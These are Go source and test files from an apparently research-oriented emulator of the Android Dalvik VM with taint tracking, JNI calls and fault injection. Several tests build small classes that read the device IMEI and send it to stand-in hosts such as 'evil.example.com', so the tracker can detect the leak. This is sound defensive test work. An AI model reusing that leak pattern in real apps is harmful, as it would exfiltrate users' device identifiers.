		return uint32(len(o.Fields)) * 8
	}
}

func (vm *VM) registerObject(o *Object) *Object {
	vm.objects[o.Addr] = o
	// A small header in guest memory makes the object visible to raw-memory
	// consumers (VMI, logs): word0 = magic, word1 = payload length.
	vm.Mem.Write32(o.Addr, objHeaderMagic)
	vm.Mem.Write32(o.Addr+4, uint32(o.Len))
	return o
}

// NewString allocates a StringObject.
func (vm *VM) NewString(s string) *Object {
	addr := vm.allocAddr(uint32(len(s)))
	o := &Object{Addr: addr, IsString: true, Str: s, Len: len(s)}
	if c, ok := vm.classes["Ljava/lang/String;"]; ok {
		o.Class = c
	}
	return vm.registerObject(o)
}

// NewArray allocates an ArrayObject with elements of the given shorty kind.
func (vm *VM) NewArray(kind byte, n int) *Object {
	w := uint32(dex.ShortyWidth(kind)) * 4
	if kind == 'B' || kind == 'Z' {
		w = 1
	}
	if kind == 'S' || kind == 'C' {
		w = 2
	}
	addr := vm.allocAddr(uint32(n) * w)
	o := &Object{
		Addr: addr, IsArray: true, ElemKind: kind, ElemWidth: w,
		Len: n, Data: make([]byte, uint32(n)*w),
	}
	return vm.registerObject(o)
}

// NewInstance allocates a class instance.
func (vm *VM) NewInstance(c *dex.Class) *Object {
	slots := c.InstanceSlots()
	addr := vm.allocAddr(uint32(slots) * 8)
	o := &Object{
		Addr: addr, Class: c,
		Fields:      make([]uint32, slots),
		FieldTaints: make([]taint.Tag, slots),
	}
	return vm.registerObject(o)
}

// classObject returns (allocating on demand) the pseudo-object for a class.
func (vm *VM) classObject(c *dex.Class) *Object {
	for _, o := range vm.objects {
		if o.IsClass && o.ClassRef == c {
			return o
		}
	}
	addr := vm.allocAddr(0)
	o := &Object{Addr: addr, IsClass: true, ClassRef: c}
	return vm.registerObject(o)
}

// ObjectAt resolves a direct pointer to its object.
func (vm *VM) ObjectAt(addr uint32) (*Object, bool) {
	o, ok := vm.objects[addr]
	return o, ok
}

// HeapObjects reports the number of live objects.
func (vm *VM) HeapObjects() int { return len(vm.objects) }

// --- indirect references --------------------------------------------------

// AddLocalRef creates a local indirect reference (current JNI frame).
func (vm *VM) AddLocalRef(o *Object) uint32 {
	if o == nil {
		return 0
	}
	ref := 0xa000_0000 | vm.nextLocal<<2 | refKindLocal
	vm.nextLocal++
	vm.irt[ref] = o
	if n := len(vm.locals); n > 0 {
		vm.locals[n-1] = append(vm.locals[n-1], ref)
	}
	return ref
}

// AddGlobalRef creates a global indirect reference.
func (vm *VM) AddGlobalRef(o *Object) uint32 {
	if o == nil {
		return 0
	}
	ref := 0xb000_0000 | vm.nextGlob<<2 | refKindGlobal
	vm.nextGlob++
	vm.irt[ref] = o
	return ref
}

// DeleteRef drops an indirect reference.
func (vm *VM) DeleteRef(ref uint32) { delete(vm.irt, ref) }

// DecodeRef resolves an indirect reference — or a direct pointer, which
// pre-ICS code may still pass (§II-A requires handling both) — to an object.
func (vm *VM) DecodeRef(ref uint32) *Object {
	if ref == 0 {
		return nil
	}
	if o, ok := vm.irt[ref]; ok {
		return o
	}
	if o, ok := vm.objects[ref]; ok {
		return o
	}
	return nil
}

// IsIndirectRef reports whether ref is table-based (vs a direct pointer).
func (vm *VM) IsIndirectRef(ref uint32) bool {
	_, ok := vm.irt[ref]
	return ok
}

func (vm *VM) pushLocalFrame() { vm.locals = append(vm.locals, nil) }

func (vm *VM) popLocalFrame() {
	n := len(vm.locals)
	if n == 0 {
		return
	}
	for _, ref := range vm.locals[n-1] {
		delete(vm.irt, ref)
	}
	vm.locals = vm.locals[:n-1]
}

// nextPad returns a unique return-pad address for nested native calls.
func (vm *VM) nextPad() uint32 {
	pad := kernel.ReturnPadBase + uint32(vm.padDepth)*16
	return pad
}

func (vm *VM) errorf(format string, args ...interface{}) error {
	return fmt.Errorf("dvm: "+format, args...)
}
