package dvm

import (
	"testing"

	"repro/internal/dex"
	"repro/internal/taint"
)

// jniCoverageLib exercises the remaining JNI families: typed calls with the
// V and A variants, field get/set including wide, array regions, and refs.
const jniCoverageLib = `
; int callIntA(JNIEnv*, jclass): CallStaticIntMethodA with a jvalue array
Java_callIntA:
	PUSH {R4, R5, R6, LR}
	MOV R4, R0
	LDR R1, =cls_name
	BL FindClass
	MOV R5, R0
	MOV R0, R4
	MOV R1, R5
	LDR R2, =m_twice
	LDR R3, =sig_twice
	BL GetStaticMethodID
	MOV R6, R0
	; jvalue array: one 8-byte slot holding 21
	LDR R12, =jvals
	MOV R2, #21
	STR R2, [R12]
	MOV R0, R4
	MOV R1, R5
	MOV R2, R6
	MOV R3, R12
	BL CallStaticIntMethodA
	POP {R4, R5, R6, PC}

; int callIntV(JNIEnv*, jclass): CallStaticIntMethodV with a word buffer
Java_callIntV:
	PUSH {R4, R5, R6, LR}
	MOV R4, R0
	LDR R1, =cls_name
	BL FindClass
	MOV R5, R0
	MOV R0, R4
	MOV R1, R5
	LDR R2, =m_twice
	LDR R3, =sig_twice
	BL GetStaticMethodID
	MOV R6, R0
	LDR R12, =jvals
	MOV R2, #5
	STR R2, [R12]
	MOV R0, R4
	MOV R1, R5
	MOV R2, R6
	MOV R3, R12
	BL CallStaticIntMethodV
	POP {R4, R5, R6, PC}

; int fieldRoundTrip(JNIEnv*, jclass self): SetStaticIntField then Get
Java_fieldRoundTrip:
	PUSH {R4, R5, R6, LR}
	MOV R4, R0
	MOV R5, R1
	MOV R1, R5
	LDR R2, =f_slot
	LDR R3, =sig_int
	BL GetStaticFieldID
	MOV R6, R0
	; SetStaticIntField(env, cls, fid, 777)
	MOV R0, R4
	MOV R1, R5
	MOV R2, R6
	MOVW R3, #777
	BL SetStaticIntField
	; GetStaticIntField(env, cls, fid)
	MOV R0, R4
	MOV R1, R5
	MOV R2, R6
	BL GetStaticIntField
	POP {R4, R5, R6, PC}

; int arrayRegion(JNIEnv*, jclass, jintArray): read region, sum two elems
Java_arrayRegion:
	PUSH {R4, R5, LR}
	MOV R4, R0
	MOV R5, R2          ; array ref
	; GetIntArrayRegion(env, arr, 0, 2, buf)
	MOV R1, R5
	MOV R2, #0
	MOV R3, #2
	LDR R12, =jvals
	SUB SP, SP, #4
	STR R12, [SP]
	BL GetIntArrayRegion
	ADD SP, SP, #4
	LDR R0, =jvals
	LDR R1, [R0]
	LDR R2, [R0, #4]
	ADD R0, R1, R2
	; SetIntArrayRegion(env, arr, 0, 1, buf) writes the sum back
	LDR R12, =jvals
	STR R0, [R12]
	PUSH {R0}
	MOV R0, R4
	MOV R1, R5
	MOV R2, #0
	MOV R3, #1
	SUB SP, SP, #4
	STR R12, [SP]
	BL SetIntArrayRegion
	ADD SP, SP, #4
	POP {R0}
	POP {R4, R5, PC}

; int refs(JNIEnv*, jclass): NewStringUTF -> NewGlobalRef -> DeleteLocalRef,
; return global ref
Java_refs:
	PUSH {R4, R5, R6, LR}
	MOV R4, R0
	LDR R1, =str_lit
	BL NewStringUTF
	MOV R5, R0
	MOV R0, R4
	MOV R1, R5
	BL NewGlobalRef
	MOV R6, R0
	MOV R0, R4
	MOV R1, R5
	BL DeleteLocalRef
	MOV R0, R6
	POP {R4, R5, R6, PC}

cls_name:
	.asciz "com/test/Cov"
m_twice:
	.asciz "twice"
sig_twice:
	.asciz "(I)I"
f_slot:
	.asciz "slot"
sig_int:
	.asciz "I"
str_lit:
	.asciz "kept-alive"
	.align 4
jvals:
	.space 32
`

func setupCoverageApp(t *testing.T, vm *VM) {
	t.Helper()
	prog, err := vm.LoadNativeLib("libcov.so", jniCoverageLib)
	if err != nil {
		t.Fatal(err)
	}
	cb := dex.NewClass("Lcom/test/Cov;")
	cb.StaticField("slot", false)
	cb.Method("twice", "II", dex.AccStatic, 1).
		Bin(dex.Add, 0, 1, 1).
		Return(0).
		Done()
	for _, m := range []struct{ name, shorty string }{
		{"callIntA", "I"}, {"callIntV", "I"}, {"fieldRoundTrip", "I"},
		{"arrayRegion", "IL"}, {"refs", "L"},
	} {
		cb.NativeMethod(m.name, m.shorty, dex.AccStatic, 0)
	}
	vm.RegisterClass(cb.Build())
	for _, m := range []string{"callIntA", "callIntV", "fieldRoundTrip", "arrayRegion", "refs"} {
		if err := vm.BindNative("Lcom/test/Cov;", m, prog, "Java_"+m); err != nil {
			t.Fatal(err)
		}
	}
}

func TestJNICallMethodAVariant(t *testing.T) {
	vm := newVM(t)
	setupCoverageApp(t, vm)
	ret, _, _, err := vm.InvokeByName("Lcom/test/Cov;", "callIntA", nil, nil)
	if err != nil {
		t.Fatal(err)
	}
	if ret != 42 {
		t.Errorf("CallStaticIntMethodA(twice, 21) = %d, want 42", ret)
	}
}

func TestJNICallMethodVVariant(t *testing.T) {
	vm := newVM(t)
	setupCoverageApp(t, vm)
	ret, _, _, err := vm.InvokeByName("Lcom/test/Cov;", "callIntV", nil, nil)
	if err != nil {
		t.Fatal(err)
	}
	if ret != 10 {
		t.Errorf("CallStaticIntMethodV(twice, 5) = %d, want 10", ret)
	}
}

func TestJNIStaticFieldRoundTrip(t *testing.T) {
	vm := newVM(t)
	setupCoverageApp(t, vm)
	ret, _, _, err := vm.InvokeByName("Lcom/test/Cov;", "fieldRoundTrip", nil, nil)
	if err != nil {
		t.Fatal(err)
	}
	if ret != 777 {
		t.Errorf("field round trip = %d, want 777", ret)
	}
	cls, _ := vm.Class("Lcom/test/Cov;")
	if cls.StaticData[0] != 777 {
		t.Errorf("static slot = %d", cls.StaticData[0])
	}
}

func TestJNIArrayRegions(t *testing.T) {
	vm := newVM(t)
	setupCoverageApp(t, vm)
	arr := vm.NewArray('I', 4)
	arr.setElem(0, 30)
	arr.setElem(1, 12)
	ret, _, _, err := vm.InvokeByName("Lcom/test/Cov;", "arrayRegion", []uint32{arr.Addr}, nil)
	if err != nil {
		t.Fatal(err)
	}
	if ret != 42 {
		t.Errorf("arrayRegion sum = %d, want 42", ret)
	}
	if arr.elem(0) != 42 {
		t.Errorf("SetIntArrayRegion wrote %d, want 42", arr.elem(0))
	}
}

func TestJNIGlobalRefSurvivesLocalFrame(t *testing.T) {
	vm := newVM(t)
	setupCoverageApp(t, vm)
	ret, _, _, err := vm.InvokeByName("Lcom/test/Cov;", "refs", nil, nil)
	if err != nil {
		t.Fatal(err)
	}
	o, ok := vm.ObjectAt(uint32(ret))
	if !ok || o.Str != "kept-alive" {
		t.Fatalf("global-ref'd string lost: %#x -> %+v", ret, o)
	}
	// The local frame was popped after the JNI call; the object survives a
	// GC because the global ref roots it.
	vm.RunGC()
	if got, ok := vm.ObjectAt(o.Addr); !ok || got.Str != "kept-alive" {
		t.Error("object collected despite global ref")
	}
}

// TestSmaliEndToEnd: a class written in the smali dialect runs on the VM and
// leaks through the framework sink, tying dex.AssembleClass to the stack.
func TestSmaliEndToEnd(t *testing.T) {
	vm := newVM(t)
	var leaks []JavaLeak
	vm.JavaLeakFn = func(l JavaLeak) { leaks = append(leaks, l) }

	cls, err := dex.AssembleClass(`
.class Lcom/smali/Spy;
.method static run()V
    .locals 2
    invoke-static {}, Landroid/telephony/TelephonyManager;->getDeviceId()L
    move-result v0
    const-string v1, "smali.example.net"
    invoke-static {v1, v0}, Landroid/net/Network;->send(LL)V
    return-void
.end method
`)
	if err != nil {
		t.Fatal(err)
	}
	vm.RegisterClass(cls)
	_, _, thrown, err := vm.InvokeByName("Lcom/smali/Spy;", "run", nil, nil)
	if err != nil || thrown != nil {
		t.Fatalf("run: err=%v thrown=%v", err, thrown)
	}
	if len(leaks) != 1 || !leaks[0].Tag.Has(taint.IMEI) {
		t.Fatalf("leaks = %v", leaks)
	}
	if leaks[0].Dest != "smali.example.net" {
		t.Errorf("dest = %q", leaks[0].Dest)
	}
}

// TestSmaliExceptionFlow: smali try/catch with a divide-by-zero.
func TestSmaliExceptionFlow(t *testing.T) {
	vm := newVM(t)
	cls, err := dex.AssembleClass(`
.class Lcom/smali/Catcher;
.method static safeDiv(II)I
    .locals 2
:try_start
    div-int v0, v2, v3
:try_end
    return v0
:handler
    move-exception v1
    const v0, -1
    return v0
    .catch Ljava/lang/ArithmeticException; :try_start :try_end :handler
.end method
`)
	if err != nil {
		t.Fatal(err)
	}
	vm.RegisterClass(cls)
	ret, _ := invoke(t, vm, "Lcom/smali/Catcher;", "safeDiv", 10, 2)
	if int32(ret) != 5 {
		t.Errorf("safeDiv(10,2) = %d", int32(ret))
	}
	ret, _ = invoke(t, vm, "Lcom/smali/Catcher;", "safeDiv", 10, 0)
	if int32(ret) != -1 {
		t.Errorf("safeDiv(10,0) = %d, want -1", int32(ret))
	}
}

// TestLongArithmetic covers the BinOpWide/IntToLong/CmpLong paths.
func TestLongArithmetic(t *testing.T) {
	vm := newVM(t)
	cls, err := dex.AssembleClass(`
.class Lcom/smali/Longs;
.method static big(I)I
    .locals 6
    int-to-long v0, v6
    const-wide v2, 1000000
    mul-long v0, v0, v2
    const-wide v2, 1000000000000
    cmp-long v4, v0, v2
    return v4
.end method
`)
	if err != nil {
		t.Fatal(err)
	}
	vm.RegisterClass(cls)
	ret, _ := invoke(t, vm, "Lcom/smali/Longs;", "big", 2000000)
	if int32(ret) != 1 { // 2e12 > 1e12
		t.Errorf("cmp-long = %d, want 1", int32(ret))
	}
	ret, _ = invoke(t, vm, "Lcom/smali/Longs;", "big", 1000000)
	if int32(ret) != 0 { // 1e12 == 1e12
		t.Errorf("cmp-long = %d, want 0", int32(ret))
	}
}
