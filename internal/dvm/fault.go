package dvm

import (
	"fmt"

	"repro/internal/dex"
	"repro/internal/fault"
)

// Fault-injection sites owned by the DVM layer.
const (
	// SiteInvoke is probed at every method invocation entry.
	SiteInvoke = "dvm.invoke"
	// SiteJNIBridge is probed at every Java→native JNI crossing.
	SiteJNIBridge = "dvm.jni.bridge"
	// SiteHeapAlloc is probed at every heap allocation (fires as a panic,
	// exercising the containment path: allocation has no error return).
	SiteHeapAlloc = "dvm.heap.alloc"
	// SiteFusedDeopt is probed at every fused-chain validation: an armed
	// fault corrupts the epoch check, forcing a deopt to the unfused bridge.
	// The deopt is absorbed, not raised — the injection parity test proves
	// the forced fallback lands in a state byte-identical to the unfused
	// path, which is the whole deopt-soundness argument.
	SiteFusedDeopt = "dvm.jni.fused-deopt"
)

func init() {
	fault.RegisterSite(SiteInvoke, "dvm")
	fault.RegisterSite(SiteJNIBridge, "dvm")
	fault.RegisterSite(SiteHeapAlloc, "dvm")
	fault.RegisterSite(SiteFusedDeopt, "dvm")
}

// faultf builds a typed DVM-layer guest fault with method context.
func (vm *VM) faultf(k fault.Kind, m *dex.Method, format string, args ...interface{}) *fault.Fault {
	f := &fault.Fault{Kind: k, Layer: "dvm", Detail: fmt.Sprintf(format, args...)}
	if m != nil {
		f.Method = m.FullName()
	}
	return f
}

// javaBudgetFault reports Java watchdog exhaustion (maps to Timeout).
func (vm *VM) javaBudgetFault(m *dex.Method) *fault.Fault {
	return vm.faultf(fault.BudgetExceeded, m, "java instruction budget exhausted")
}
