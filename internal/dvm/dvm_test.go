package dvm

import (
	"math"
	"strings"
	"testing"

	"repro/internal/arm"
	"repro/internal/dex"
	"repro/internal/kernel"
	"repro/internal/libc"
	"repro/internal/mem"
	"repro/internal/taint"
)

// newVM builds the full stack: memory, kernel, libc, CPU, and a VM with
// TaintDroid propagation enabled.
func newVM(t *testing.T) *VM {
	t.Helper()
	m := mem.New()
	k := kernel.New(m)
	task := k.NewTask("app_process")
	c := arm.New(m)
	c.R[arm.SP] = kernel.NativeStackTop
	c.SVC = func(c *arm.CPU, num uint32) error { return k.Syscall(task, c, num) }
	lc, err := libc.New(m, k, task)
	if err != nil {
		t.Fatal(err)
	}
	lc.Install(c)
	vm := New(m, c, k, task, lc)
	vm.TaintJava = true
	return vm
}

func invoke(t *testing.T, vm *VM, class, method string, args ...uint32) (uint64, taint.Tag) {
	t.Helper()
	ret, rt, thrown, err := vm.InvokeByName(class, method, args, nil)
	if err != nil {
		t.Fatalf("%s.%s: %v", class, method, err)
	}
	if thrown != nil {
		msg := ""
		if len(thrown.Fields) > 0 {
			if o, ok := vm.objects[thrown.Fields[0]]; ok {
				msg = o.Str
			}
		}
		t.Fatalf("%s.%s threw %s: %s", class, method, thrown.Class.Name, msg)
	}
	return ret, rt
}

func TestInterpreterFactorial(t *testing.T) {
	vm := newVM(t)
	cb := dex.NewClass("Lcom/test/Math;")
	cb.Method("fact", "II", dex.AccStatic, 3).
		Const(0, 1). // acc
		Label("loop").
		IfZ(3, dex.Le, "done"). // arg in v3
		Bin(dex.Mul, 0, 0, 3).
		BinLit(dex.Sub, 3, 3, 1).
		Goto("loop").
		Label("done").
		Return(0).
		Done()
	vm.RegisterClass(cb.Build())

	ret, _ := invoke(t, vm, "Lcom/test/Math;", "fact", 6)
	if ret != 720 {
		t.Errorf("fact(6) = %d, want 720", ret)
	}
}

func TestInterpreterRecursion(t *testing.T) {
	vm := newVM(t)
	cb := dex.NewClass("Lcom/test/Rec;")
	// fib(n) = n < 2 ? n : fib(n-1)+fib(n-2)
	cb.Method("fib", "II", dex.AccStatic, 3).
		Const(0, 2).
		If(3, dex.Lt, 0, "base").
		BinLit(dex.Sub, 1, 3, 1).
		InvokeStatic("Lcom/test/Rec;", "fib", "II", 1).
		MoveResult(1).
		BinLit(dex.Sub, 2, 3, 2).
		InvokeStatic("Lcom/test/Rec;", "fib", "II", 2).
		MoveResult(2).
		Bin(dex.Add, 0, 1, 2).
		Return(0).
		Label("base").
		Return(3).
		Done()
	vm.RegisterClass(cb.Build())
	ret, _ := invoke(t, vm, "Lcom/test/Rec;", "fib", 10)
	if ret != 55 {
		t.Errorf("fib(10) = %d, want 55", ret)
	}
}

func TestTaintPropagationThroughArithmetic(t *testing.T) {
	vm := newVM(t)
	cb := dex.NewClass("Lcom/test/T;")
	// Taint flows: tainted arg + constant -> result tainted.
	cb.Method("mix", "II", dex.AccStatic, 2).
		Const(0, 100).
		Bin(dex.Add, 1, 0, 2). // v1 = 100 + arg
		Return(1).
		Done()
	vm.RegisterClass(cb.Build())
	ret, rt, _, err := vm.InvokeByName("Lcom/test/T;", "mix", []uint32{5}, []taint.Tag{taint.IMEI})
	if err != nil {
		t.Fatal(err)
	}
	if ret != 105 {
		t.Errorf("mix = %d", ret)
	}
	if rt != taint.IMEI {
		t.Errorf("taint = %v, want IMEI", rt)
	}
}

func TestTaintClearedByConst(t *testing.T) {
	vm := newVM(t)
	cb := dex.NewClass("Lcom/test/T2;")
	cb.Method("wipe", "II", dex.AccStatic, 0).
		Const(0, 7). // overwrites the tainted arg register
		Return(0).
		Done()
	vm.RegisterClass(cb.Build())
	// NumRegs == InsSize == 1, so v0 is the argument register.
	_, rt, _, err := vm.InvokeByName("Lcom/test/T2;", "wipe", []uint32{5}, []taint.Tag{taint.IMEI})
	if err != nil {
		t.Fatal(err)
	}
	if rt != 0 {
		t.Errorf("taint = %v, want clear after const overwrite", rt)
	}
}

func TestSourceToJavaSink(t *testing.T) {
	vm := newVM(t)
	var leaks []JavaLeak
	vm.JavaLeakFn = func(l JavaLeak) { leaks = append(leaks, l) }

	cb := dex.NewClass("Lcom/test/Leaky;")
	cb.Method("leak", "V", dex.AccStatic, 2).
		InvokeStatic("Landroid/telephony/TelephonyManager;", "getDeviceId", "L").
		MoveResult(0).
		ConstString(1, "evil.example.com").
		InvokeStatic("Landroid/net/Network;", "send", "VLL", 1, 0).
		ReturnVoid().
		Done()
	vm.RegisterClass(cb.Build())
	invoke(t, vm, "Lcom/test/Leaky;", "leak")

	if len(leaks) != 1 {
		t.Fatalf("got %d leaks, want 1", len(leaks))
	}
	if !leaks[0].Tag.Has(taint.IMEI) {
		t.Errorf("leak tag = %v, want IMEI", leaks[0].Tag)
	}
	if leaks[0].Data != DeviceIMEI {
		t.Errorf("leak data = %q", leaks[0].Data)
	}
	sent := vm.Kern.Net.SentTo("evil.example.com")
	if len(sent) != 1 || string(sent[0]) != DeviceIMEI {
		t.Errorf("network log = %q", sent)
	}
}

func TestNoLeakWhenTaintingDisabled(t *testing.T) {
	vm := newVM(t)
	vm.TaintJava = false
	var leaks []JavaLeak
	vm.JavaLeakFn = func(l JavaLeak) { leaks = append(leaks, l) }
	cb := dex.NewClass("Lcom/test/Leaky2;")
	cb.Method("leak", "V", dex.AccStatic, 2).
		InvokeStatic("Landroid/telephony/TelephonyManager;", "getDeviceId", "L").
		MoveResult(0).
		ConstString(1, "evil.example.com").
		InvokeStatic("Landroid/net/Network;", "send", "VLL", 1, 0).
		ReturnVoid().
		Done()
	vm.RegisterClass(cb.Build())
	invoke(t, vm, "Lcom/test/Leaky2;", "leak")
	if len(leaks) != 0 {
		t.Errorf("vanilla mode reported %d leaks", len(leaks))
	}
}

func TestExceptionCatch(t *testing.T) {
	vm := newVM(t)
	cb := dex.NewClass("Lcom/test/E;")
	cb.Method("divSafe", "III", dex.AccStatic, 2).
		Label("try_start").
		Bin(dex.Div, 0, 2, 3).
		Label("try_end").
		Return(0).
		Label("handler").
		MoveException(1).
		Const(0, -1).
		Return(0).
		Try("try_start", "try_end", "handler", "Ljava/lang/ArithmeticException;").
		Done()
	vm.RegisterClass(cb.Build())

	ret, _ := invoke(t, vm, "Lcom/test/E;", "divSafe", 10, 2)
	if int32(ret) != 5 {
		t.Errorf("divSafe(10,2) = %d", int32(ret))
	}
	ret, _ = invoke(t, vm, "Lcom/test/E;", "divSafe", 10, 0)
	if int32(ret) != -1 {
		t.Errorf("divSafe(10,0) = %d, want -1 (caught)", int32(ret))
	}
}

func TestUncaughtExceptionPropagates(t *testing.T) {
	vm := newVM(t)
	cb := dex.NewClass("Lcom/test/E2;")
	cb.Method("boom", "II", dex.AccStatic, 1).
		Const(0, 0).
		Bin(dex.Div, 0, 1, 0).
		Return(0).
		Done()
	vm.RegisterClass(cb.Build())
	_, _, thrown, err := vm.InvokeByName("Lcom/test/E2;", "boom", []uint32{5}, nil)
	if err != nil {
		t.Fatal(err)
	}
	if thrown == nil {
		t.Fatal("expected thrown exception")
	}
	if thrown.Class.Name != "Ljava/lang/ArithmeticException;" {
		t.Errorf("thrown class = %s", thrown.Class.Name)
	}
}

func TestFieldsAndObjects(t *testing.T) {
	vm := newVM(t)
	cb := dex.NewClass("Lcom/test/Box;")
	cb.InstanceField("value", false)
	cb.StaticField("counter", false)
	cb.Method("roundTrip", "II", dex.AccStatic, 2).
		NewInstance(0, "Lcom/test/Box;").
		Iput(2, 0, "Lcom/test/Box;", "value").
		Iget(1, 0, "Lcom/test/Box;", "value").
		Sput(1, "Lcom/test/Box;", "counter").
		Sget(1, "Lcom/test/Box;", "counter").
		Return(1).
		Done()
	vm.RegisterClass(cb.Build())
	ret, rt, _, err := vm.InvokeByName("Lcom/test/Box;", "roundTrip", []uint32{42}, []taint.Tag{taint.SMS})
	if err != nil {
		t.Fatal(err)
	}
	if ret != 42 {
		t.Errorf("roundTrip = %d", ret)
	}
	if rt != taint.SMS {
		t.Errorf("field taint lost: %v", rt)
	}
}

func TestArrayTaintSemantics(t *testing.T) {
	vm := newVM(t)
	cb := dex.NewClass("Lcom/test/Arr;")
	// Store tainted value at [0], read back [1]: TaintDroid's single-tag-per-
	// array semantics taint the whole array.
	cb.Method("spread", "II", dex.AccStatic, 3).
		Const(0, 8).
		NewArray(1, 0, "I").
		Const(0, 0).
		Aput(3, 1, 0). // arr[0] = tainted arg
		Const(0, 1).
		Aget(2, 1, 0). // read arr[1] (never written)
		Return(2).
		Done()
	vm.RegisterClass(cb.Build())
	_, rt, _, err := vm.InvokeByName("Lcom/test/Arr;", "spread", []uint32{9}, []taint.Tag{taint.Contacts})
	if err != nil {
		t.Fatal(err)
	}
	if rt != taint.Contacts {
		t.Errorf("array taint = %v, want Contacts (whole-array tag)", rt)
	}
}

func TestWideArithmetic(t *testing.T) {
	vm := newVM(t)
	cb := dex.NewClass("Lcom/test/W;")
	cb.Method("dmul", "V", dex.AccStatic, 6).
		ConstWide(0, int64(doubleBits(2.5))).
		ConstWide(2, int64(doubleBits(4.0))).
		BinDouble(dex.Mul, 4, 0, 2).
		Sput(4, "Lcom/test/W;", "lo").
		Move(4, 5).
		Sput(4, "Lcom/test/W;", "hi").
		ReturnVoid().
		Done()
	cb.StaticField("lo", false)
	cb.StaticField("hi", false)
	cls := cb.Build()
	vm.RegisterClass(cls)
	invoke(t, vm, "Lcom/test/W;", "dmul")
	got := uint64(cls.StaticData[0]) | uint64(cls.StaticData[1])<<32
	if got != doubleBits(10.0) {
		t.Errorf("2.5*4.0 bits = %#x, want bits of 10.0", got)
	}
}

func doubleBits(f float64) uint64 { return math.Float64bits(f) }

// --- JNI round trips --------------------------------------------------------

const testNativeLib = `
; int add(JNIEnv*, jclass, int a, int b)
Java_add:
	ADD R0, R2, R3
	BX LR

; jstring echo(JNIEnv* env, jclass, jstring s): GetStringUTFChars + NewStringUTF
Java_echo:
	PUSH {R4, R5, R6, LR}
	MOV R4, R0
	MOV R5, R2
	MOV R1, R5
	MOV R2, #0
	BL GetStringUTFChars
	MOV R6, R0
	MOV R0, R4
	MOV R1, R6
	BL NewStringUTF
	POP {R4, R5, R6, PC}

; void callback(JNIEnv* env, jclass): calls App.ping() through JNI
Java_callback:
	PUSH {R4, R5, R6, LR}
	MOV R4, R0
	LDR R1, =str_cls
	BL FindClass
	MOV R5, R0
	MOV R0, R4
	MOV R1, R5
	LDR R2, =str_ping
	LDR R3, =str_sig
	BL GetStaticMethodID
	MOV R6, R0
	MOV R0, R4
	MOV R1, R5
	MOV R2, R6
	BL CallStaticVoidMethod
	POP {R4, R5, R6, PC}

; void boom(JNIEnv* env, jclass): ThrowNew(env, Exception, "native oops")
Java_boom:
	PUSH {R4, LR}
	MOV R4, R0
	LDR R1, =str_exc
	BL FindClass
	MOV R1, R0
	MOV R0, R4
	LDR R2, =str_msg
	BL ThrowNew
	POP {R4, PC}

str_cls:  .asciz "com/test/App"
str_ping: .asciz "ping"
str_sig:  .asciz "()V"
str_exc:  .asciz "java/lang/Exception"
str_msg:  .asciz "native oops"
`

func setupJNIApp(t *testing.T, vm *VM) {
	t.Helper()
	prog, err := vm.LoadNativeLib("libtest.so", testNativeLib)
	if err != nil {
		t.Fatal(err)
	}
	cb := dex.NewClass("Lcom/test/App;")
	cb.StaticField("pinged", false)
	cb.NativeMethod("add", "III", dex.AccStatic, 0)
	cb.NativeMethod("echo", "LL", dex.AccStatic, 0)
	cb.NativeMethod("callback", "V", dex.AccStatic, 0)
	cb.NativeMethod("boom", "V", dex.AccStatic, 0)
	cb.Method("ping", "V", dex.AccStatic, 1).
		Const(0, 1).
		Sput(0, "Lcom/test/App;", "pinged").
		ReturnVoid().
		Done()
	cb.Method("tryBoom", "I", dex.AccStatic, 2).
		Label("try_start").
		InvokeStatic("Lcom/test/App;", "boom", "V").
		Label("try_end").
		Const(0, 0).
		Return(0).
		Label("handler").
		MoveException(1).
		Const(0, 99).
		Return(0).
		Try("try_start", "try_end", "handler", "").
		Done()
	cls := cb.Build()
	vm.RegisterClass(cls)
	for _, m := range []string{"add", "echo", "callback", "boom"} {
		if err := vm.BindNative("Lcom/test/App;", m, prog, "Java_"+m); err != nil {
			t.Fatal(err)
		}
	}
}

func TestJNIPrimitiveCall(t *testing.T) {
	vm := newVM(t)
	setupJNIApp(t, vm)
	ret, rt, _, err := vm.InvokeByName("Lcom/test/App;", "add", []uint32{30, 12}, nil)
	if err != nil {
		t.Fatal(err)
	}
	if ret != 42 {
		t.Errorf("native add = %d", ret)
	}
	if rt != 0 {
		t.Errorf("untainted call returned taint %v", rt)
	}
}

func TestJNITaintDroidReturnPolicy(t *testing.T) {
	vm := newVM(t)
	setupJNIApp(t, vm)
	// TaintDroid policy: return value tainted iff any parameter tainted.
	_, rt, _, err := vm.InvokeByName("Lcom/test/App;", "add",
		[]uint32{30, 12}, []taint.Tag{taint.IMEI, 0})
	if err != nil {
		t.Fatal(err)
	}
	if rt != taint.IMEI {
		t.Errorf("JNI return taint = %v, want IMEI (TaintDroid policy)", rt)
	}
}

func TestJNIStringRoundTrip(t *testing.T) {
	vm := newVM(t)
	setupJNIApp(t, vm)
	s := vm.NewString("hello jni")
	ret, _, _, err := vm.InvokeByName("Lcom/test/App;", "echo", []uint32{s.Addr}, nil)
	if err != nil {
		t.Fatal(err)
	}
	out, ok := vm.objects[uint32(ret)]
	if !ok || !out.IsString {
		t.Fatalf("echo returned non-string %#x", ret)
	}
	if out.Str != "hello jni" {
		t.Errorf("echo = %q", out.Str)
	}
	if out.Addr == s.Addr {
		t.Error("echo should have produced a fresh string object")
	}
}

func TestJNICallbackIntoJava(t *testing.T) {
	vm := newVM(t)
	setupJNIApp(t, vm)
	invoke(t, vm, "Lcom/test/App;", "callback")
	cls, _ := vm.Class("Lcom/test/App;")
	if cls.StaticData[0] != 1 {
		t.Error("native callback did not run App.ping")
	}
}

func TestJNIThrowNewCaughtInJava(t *testing.T) {
	vm := newVM(t)
	setupJNIApp(t, vm)
	ret, _ := invoke(t, vm, "Lcom/test/App;", "tryBoom")
	if ret != 99 {
		t.Errorf("tryBoom = %d, want 99 (handler ran)", ret)
	}
}

func TestJNIBranchEventsForMultilevelChain(t *testing.T) {
	vm := newVM(t)
	var events []string
	vm.CPU.BranchFn = func(_ *arm.CPU, from, to uint32) {
		if name, ok := vm.InternalName(to); ok {
			events = append(events, name)
		}
	}
	setupJNIApp(t, vm)
	invoke(t, vm, "Lcom/test/App;", "callback")
	joined := strings.Join(events, ",")
	// The Fig. 5 chain: native -> CallStaticVoidMethod -> dvmCallMethodV ->
	// dvmInterpret must appear in order.
	for _, want := range []string{"FindClass", "GetStaticMethodID", "CallStaticVoidMethod", "dvmCallMethodV", "dvmInterpret"} {
		if !strings.Contains(joined, want) {
			t.Errorf("branch events missing %s: %s", want, joined)
		}
	}
	idxCall := strings.Index(joined, "CallStaticVoidMethod")
